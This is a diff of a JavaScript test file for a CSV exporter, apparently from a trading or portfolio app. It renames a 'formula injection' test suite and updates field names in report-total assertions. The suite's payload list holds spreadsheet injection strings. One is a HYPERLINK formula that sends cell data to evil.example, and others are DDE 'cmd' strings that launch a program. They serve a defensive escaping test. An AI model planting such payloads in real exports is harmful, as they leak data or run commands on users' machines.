@@ -55,7 +55,7 @@ describe('toCsv', () => {
   });
 });
 
-describe('formula injection (issue 16)', () => {
+describe('formula injection', () => {
   const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 
   it('text that a spreadsheet would run is prefixed with a quote; numbers, negative ones included, stay numbers', () => {
@@ -100,9 +100,9 @@ describe('report CSVs', () => {
     expect(sumCents(tickets, 'ticketPremium') - sumCents(tickets, 'ticketFees')).toBe(netCash);
 
     const performance = await t.backend.send('performance/get', { portfolioId, to: '2026-05-29' });
-    expect(sumCents(months, 'realizedPnl')).toBe(dollarsToCents(performance.totals.realized));
+    expect(sumCents(months, 'realizedPnl')).toBe(dollarsToCents(performance.totals.realizedDollars));
     expect(sumCents(months, 'realizedPnl')).toBe(1408_00);
-    expect(sumCents(months, 'fees')).toBe(dollarsToCents(performance.totals.fees));
+    expect(sumCents(months, 'fees')).toBe(dollarsToCents(performance.totals.feesDollars));
     expect(months.reduce((s, m) => s + Number(m.trades), 0)).toBe(performance.totals.closedLayers);
     expect(months.map((m) => [m.month, m.realizedPnl, m.fees, m.trades])).toEqual([['2026-04', '1134.00', '16.00', '2'], ['2026-05', '274.00', '34.00', '2']]);
     expect(sumCents(layers, 'realizedPnl')).toBe(1408_00);
